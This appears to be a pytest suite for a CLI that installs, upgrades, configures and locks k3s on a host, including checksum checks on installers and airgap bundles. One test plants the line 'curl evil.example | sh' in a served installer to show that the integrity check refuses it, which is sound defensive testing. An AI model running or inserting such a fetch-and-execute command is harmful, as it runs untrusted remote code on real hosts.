"""k3s on the host as a careful admin would leave it: a half-finished install is finished, a stopped k3s started
(systemd and OpenRC), proxies reach the installer, the installer and airgap files are checked, an older k3s is
upgraded in place after a backup, registries.yaml is merged, one run at a time."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from llmops_cli import versions
from llmops_cli.adapters import hostfacts as hf
from llmops_cli.adapters import upstream
from llmops_cli.cluster.lock import RunLocked, run_lock
from llmops_cli.cluster.model import UpOptions
from llmops_cli.cluster.plan import build_plan
from llmops_cli.cluster.state import State
from llmops_cli.cluster.steps.k3s import merge_registries, parse_env_file, parse_exec_args, proxy_env
from llmops_cli.cluster.up import inspect_airgap_bundle, with_bundled_charts
from llmops_cli.config.model import Settings
from llmops_cli.errors import CommandFailed, InputError, LlmopsError, WaitTimeout
from tests.cluster.bundles import chart_archive
from tests.cluster.conftest import INSTALLER_TEXT, PINNED, Cluster, make_inputs
from tests.cluster.test_apply import context, up_once

OLD = "v1.31.4+k3s1"


def test_a_killed_install_is_finished_by_the_next_up_not_adopted(tmp_path: Path) -> None:
    cluster = Cluster()
    cluster.kill_installer_after_binary = True
    state = State(tmp_path / "s.json")
    with pytest.raises(CommandFailed, match="exited 143"):
        up_once(cluster, Settings(), state)
    facts = cluster.facts()
    assert facts.k3s.binary and facts.k3s.partial and not facts.k3s.installed
    cluster.kill_installer_after_binary = False
    report, _ = up_once(cluster, Settings(), State(tmp_path / "s.json"))
    assert len(cluster.installer_runs) == 2 and cluster.installs == 1
    assert cluster.facts().k3s.installed and cluster.running
    assert all(v == "Synced/Healthy" for v in report.results["applications"].values())


@pytest.mark.parametrize(("init", "start"), [("systemd", "systemctl start k3s"), ("openrc", "rc-service k3s start")])
def test_a_stopped_k3s_is_started_and_waited_for(init: str, start: str) -> None:
    cluster = Cluster(k3s_installed=True, init=init, running=False)
    facts = cluster.facts()
    assert facts.init_system == init and facts.k3s.installed and not facts.k3s.running
    plan = build_plan(Settings(), facts, make_inputs())
    assert plan.step("start_k3s").description == "start k3s"
    up_once(cluster, Settings(), facts=facts)
    assert cluster.starts == 1 and (start, "priv") in [c[1:3] for c in cluster.host.calls]


@pytest.mark.parametrize("init", ["systemd", "openrc"])
def test_a_k3s_that_never_answers_ends_in_a_timeout_that_says_where_to_look(init: str) -> None:
    """The API stays unreachable after the start: every check and wait treats that as "not yet" and the run
    ends at the node-Ready deadline with the init system's log, never with the first connection error."""
    cluster = Cluster(k3s_installed=True, init=init, running=False)
    facts = cluster.facts()
    inputs = make_inputs()
    ctx = context(cluster, Settings(), facts, inputs, UpOptions(timeout=90))
    real = cluster.on_run

    def start_but_never_answer(host, argv, env):  # type: ignore[no-untyped-def]
        out = real(host, argv, env)
        cluster.api_up = False  # the service runs, the API never comes up
        return out

    cluster.host.on_run = start_but_never_answer
    with pytest.raises(WaitTimeout) as e:
        from llmops_cli.cluster.apply import apply_plan

        apply_plan(build_plan(Settings(), facts, inputs), ctx)
    msg = str(e.value)
    assert "waiting for the k3s node to be Ready" in msg and "connection refused" in msg
    assert hf.K3S_LOG_HINT[init] in msg + (e.value.hint or "")
    assert ctx.clock() >= 90


def test_proxies_reach_the_installer_through_sudo() -> None:
    environ = {
        "HTTPS_PROXY": "http://proxy.invalid:3128",
        "no_proxy": "localhost,10.0.0.0/8",
        "CONTAINERD_HTTP_PROXY": "http://proxy.invalid:3128",
        "HOME": "/home/me",
        "K3S_TOKEN": "not-passed-on",
    }
    assert proxy_env(environ) == {
        "HTTPS_PROXY": "http://proxy.invalid:3128",
        "no_proxy": "localhost,10.0.0.0/8",
        "CONTAINERD_HTTP_PROXY": "http://proxy.invalid:3128",
    }
    cluster = Cluster()
    up_once(cluster, Settings(), options=UpOptions(timeout=60, proxy_env=proxy_env(environ)))
    (_argv, env), *_ = cluster.installer_runs
    assert env["HTTPS_PROXY"] == "http://proxy.invalid:3128" and env["no_proxy"] == "localhost,10.0.0.0/8"
    assert env["CONTAINERD_HTTP_PROXY"] == "http://proxy.invalid:3128" and "K3S_TOKEN" not in env
    # ... and, as install.sh does, into the service's environment file.
    service_env = parse_env_file(cluster.host.files[hf.K3S_SERVICE_ENV["systemd"]])
    assert service_env["HTTPS_PROXY"] == "http://proxy.invalid:3128"


def test_a_tampered_installer_is_refused_before_it_runs() -> None:
    cluster = Cluster()
    cluster.served_installer = INSTALLER_TEXT + "curl evil.example | sh\n"
    with pytest.raises(LlmopsError, match="refusing to run it") as e:
        up_once(cluster, Settings())
    assert e.value.code == "integrity" and upstream.K3S_INSTALLER_SHA256 in str(e.value)
    assert cluster.installer_runs == [] and "/tmp/k3s-install.abc123" not in cluster.host.files


def test_an_older_k3s_is_upgraded_in_place_after_a_backup_keeping_its_arguments(tmp_path: Path) -> None:
    cluster = Cluster(k3s_installed=True, k3s_version=OLD)
    unit = hf.K3S_SERVICE["systemd"]
    cluster.host.files[unit] = (
        "[Service]\nType=notify\nExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--disable=servicelb' \\\n"
        "\t'--cluster-cidr=10.99.0.0/16' \\\n\n"
    )
    cluster.host.files[hf.K3S_SERVICE_ENV["systemd"]] = "K3S_TOKEN='s3cret'\nhttps_proxy='http://old.invalid:3128'\n"
    state = State(tmp_path / "s.json")
    plan = build_plan(Settings(), cluster.facts(), make_inputs())
    assert plan.step("install_k3s").description == f"upgrade k3s {OLD} -> {PINNED} in place"
    report, _ = up_once(cluster, Settings(), state)
    runs = [c[1] for c in cluster.host.calls if c[0] == "run"]
    # Backup first, with k3s stopped (SQLite), outside /var/lib/rancher (the uninstall script removes that).
    stop, tar = runs.index("systemctl stop k3s"), next(i for i, r in enumerate(runs) if r.startswith("tar -czf"))
    installer = runs.index("sh /tmp/k3s-install.abc123 server --disable=servicelb --cluster-cidr=10.99.0.0/16")
    assert stop < tar < installer
    backup = runs[tar].split()[2]
    assert backup.startswith(f"{hf.BACKUP_DIR}/k3s-{OLD.replace('+', '_')}-") and backup in cluster.host.files
    assert f"chmod 0600 {backup}" in runs
    (_argv, env), *_ = cluster.installer_runs
    assert env["K3S_TOKEN"] == "s3cret" and env["https_proxy"] == "http://old.invalid:3128"
    assert env["INSTALL_K3S_VERSION"] == PINNED and cluster.version == PINNED
    assert state.host["backups"] == [backup] and any(backup in n for n in report.notes)
    assert not any("uninstall" in r for r in runs)  # never by uninstalling


def test_etcd_datastores_are_snapshotted_by_k3s_itself() -> None:
    cluster = Cluster(k3s_installed=True, k3s_version=OLD)
    cluster.host.dirs.add(hf.K3S_ETCD_DIR)
    up_once(cluster, Settings())
    runs = [c[1] for c in cluster.host.calls if c[0] == "run"]
    assert any(r.startswith(f"{hf.K3S_BIN} etcd-snapshot save --name llmops-before-") for r in runs)
    assert "systemctl stop k3s" not in runs


def test_parse_exec_args_of_both_init_systems() -> None:
    systemd = "ExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--tls-san=a b' \\\n\n"
    assert parse_exec_args(systemd, "systemd") == ["server", "--tls-san=a b"]
    openrc = 'command="/usr/local/bin/k3s"\ncommand_args="server \\\n\t\'--disable=traefik\' \\\n    >>/var/log/k3s.log 2>&1"\n'
    assert parse_exec_args(openrc, "openrc") == ["server", "--disable=traefik"]
    assert parse_exec_args("[Unit]\n", "systemd") is None and parse_exec_args(None, "systemd") is None


# ------------------------------------------------------------------------------------------- registries.yaml
hosts_ = st.sampled_from(["docker.io", "ghcr.io", "quay.io", "registry.example.com"])
endpoints = st.lists(
    st.sampled_from(["https://m1.example.com", "http://10.0.0.5:5000", "https://m2.example.com"]),
    min_size=1,
    max_size=2,
)
mirrors = st.dictionaries(hosts_, st.builds(lambda e: {"endpoint": e}, endpoints), max_size=3)
configs = st.dictionaries(
    hosts_,
    st.fixed_dictionaries(
        {"auth": st.fixed_dictionaries({"username": st.just("me"), "password": st.text(min_size=1, max_size=8)})}
    ),
    max_size=2,
)


@settings(max_examples=150, deadline=None)
@given(user_mirrors=mirrors, user_configs=configs, ours=mirrors)
def test_registries_merge_keeps_the_users_and_takes_back_only_its_own(user_mirrors, user_configs, ours) -> None:  # type: ignore[no-untyped-def]
    user: dict = {}
    if user_mirrors:
        user["mirrors"] = user_mirrors
    if user_configs:
        user["configs"] = user_configs
    current = yaml.safe_dump(user) if user else None
    text, owned, _ = merge_registries(current, {"mirrors": ours} if ours else None, None)
    merged = yaml.safe_load(text) if text else {}
    # The user's mirrors and every config (auth, TLS) stay exactly as they were.
    assert merged.get("configs", {}) == user_configs
    for host, entry in user_mirrors.items():
        assert merged["mirrors"][host] == entry
    # Ours are added where the user has none for that registry.
    for host, entry in ours.items():
        if host not in user_mirrors:
            assert merged["mirrors"][host] == entry
    # When the setting goes away, exactly the user's file comes back.
    back, owned_after, _ = merge_registries(text, None, owned)
    assert (yaml.safe_load(back) if back else None) == (user or None)
    assert owned_after is None


def test_a_mirror_the_user_changed_since_is_theirs_and_kept() -> None:
    ours = {"mirrors": {"docker.io": {"endpoint": ["https://mirror.example.com"]}}}
    _text, owned, _ = merge_registries(None, ours, None)
    edited = yaml.safe_dump({"mirrors": {"docker.io": {"endpoint": ["https://theirs.example.com"]}}})
    back, owned_after, _ = merge_registries(edited, None, owned)
    assert yaml.safe_load(back or "")["mirrors"]["docker.io"]["endpoint"] == ["https://theirs.example.com"]
    assert owned_after is None


def test_a_broken_registries_file_is_named_not_overwritten() -> None:
    with pytest.raises(InputError, match="registries.yaml is not valid YAML"):
        merge_registries("mirrors: [broken\n", {"mirrors": {}}, None)


# ------------------------------------------------------------------------------------------- airgap
ARGOCD_ARCHIVE = chart_archive("argo-cd", versions.ARGOCD_CHART_VERSION)


def _bundle(tmp_path: Path, *, extra: bool = False, bad: str | None = None) -> Path:
    b = tmp_path / "bundle"
    b.mkdir()
    files = {
        "k3s": f"k3s binary {versions.K3S_VERSION}",
        "install.sh": INSTALLER_TEXT,
        "k3s-airgap-images-amd64.tar.zst": "images",
    }
    for name, text in files.items():
        (b / name).write_text(text)
    sums = {n: hashlib.sha256(t.encode()).hexdigest() for n, t in files.items() if n != "install.sh"}
    if bad:
        sums[bad] = "0" * 64
    (b / "sha256sum-amd64.txt").write_text("".join(f"{h}  {n}\n" for n, h in sums.items()))
    if extra:
        (b / "images").mkdir()
        (b / "images" / "platform.tar").write_text("platform images")
        (b / "charts").mkdir()
        (b / "charts" / f"argo-cd-{versions.ARGOCD_CHART_VERSION}.tgz").write_bytes(ARGOCD_ARCHIVE)
        lines = [
            f"{hashlib.sha256(b'platform images').hexdigest()}  images/platform.tar",
            f"{hashlib.sha256(ARGOCD_ARCHIVE).hexdigest()}  charts/argo-cd-{versions.ARGOCD_CHART_VERSION}.tgz",
        ]
        (b / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    return b


def test_an_airgap_bundle_is_checked_and_installed(tmp_path: Path) -> None:
    bundle = inspect_airgap_bundle(_bundle(tmp_path, extra=True))
    assert bundle.extra_images and set(bundle.charts) == {"argo-cd"}
    cluster = Cluster()
    _report, _ = up_once(cluster, Settings(), options=UpOptions(airgap=bundle, timeout=60))
    runs = [(c[1], c[4]) for c in cluster.host.calls if c[0] == "run" and c[3] == "rw"]
    images = f"{hf.K3S_IMAGES_DIR}/k3s-airgap-images-amd64.tar.zst"
    assert (f"install -D -m 0644 {bundle.images[0]} {images}", "") in runs
    assert (f"install -D -m 0644 {bundle.extra_images[0]} {hf.K3S_IMAGES_DIR}/platform.tar", "") in runs
    assert (f"install -D -m 0755 {bundle.k3s_binary} {hf.K3S_BIN}", "") in runs
    assert (f"sh {bundle.installer}", f"INSTALL_K3S_SKIP_DOWNLOAD=true,INSTALL_K3S_VERSION={PINNED}") in runs
    assert not any(r.startswith("curl") for r, _ in runs)
    # The Argo CD chart came from the bundle: helm-controller's chartContent.
    charts = [o for o in with_bundled_charts(make_inputs(), bundle).bootstrap if o["kind"] == "HelmChart"]
    assert base64.b64decode(charts[0]["spec"]["chartContent"]) == ARGOCD_ARCHIVE


@pytest.mark.parametrize("bad", ["k3s", "k3s-airgap-images-amd64.tar.zst"])
def test_an_airgap_file_that_does_not_match_the_release_checksums_is_refused(tmp_path: Path, bad: str) -> None:
    with pytest.raises(InputError, match=f"{bad} has sha256 .* refusing it"):
        inspect_airgap_bundle(_bundle(tmp_path, bad=bad))


def test_a_k3s_binary_of_another_release_is_refused_even_with_its_own_checksums(tmp_path: Path) -> None:
    """A bundle is one release's files, each listed in that release's sha256sum file: a consistent bundle of
    another k3s release passes every checksum, so the binary must also be the pinned version (it carries it)."""
    b = _bundle(tmp_path)
    other = b"k3s binary v1.34.1+k3s1"
    (b / "k3s").write_bytes(other)
    sums = (b / "sha256sum-amd64.txt").read_text().splitlines()
    sums = [f"{hashlib.sha256(other).hexdigest()}  k3s" if line.endswith("  k3s") else line for line in sums]
    (b / "sha256sum-amd64.txt").write_text("\n".join(sums) + "\n")
    with pytest.raises(InputError, match=rf"is not k3s {re.escape(versions.K3S_VERSION)} .*refusing it"):
        inspect_airgap_bundle(b)


def test_an_airgap_installer_that_is_not_the_pinned_one_is_refused(tmp_path: Path) -> None:
    b = _bundle(tmp_path)
    (b / "install.sh").write_text(INSTALLER_TEXT + "# edited\n")
    with pytest.raises(InputError, match="install.sh has sha256 .*the pinned installer"):
        inspect_airgap_bundle(b)


# ------------------------------------------------------------------------------------------- one run at a time
HOLDER = textwrap.dedent(
    """
    import sys, time
    from llmops_cli.cluster.lock import run_lock
    with run_lock("llmops", "up", {"XDG_STATE_HOME": sys.argv[1]}):
        print("held", flush=True)
        time.sleep(60)
    """
)


def test_a_second_run_is_refused_naming_the_holder_and_a_dead_holder_blocks_nothing(tmp_path: Path) -> None:
    env = {"XDG_STATE_HOME": str(tmp_path)}
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(tmp_path)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        with pytest.raises(RunLocked) as e, run_lock("llmops", "down", env):
            pass
        assert f"`llmops up` (PID {holder.pid}" in e.value.message and f"kill {holder.pid}" in (e.value.hint or "")
    finally:
        holder.kill()
        holder.wait(10)
    with run_lock("llmops", "down", env):  # the kernel released the lock of the killed process
        assert str(os.getpid()) in (tmp_path / "llmops" / "clusters" / "llmops.lock").read_text()
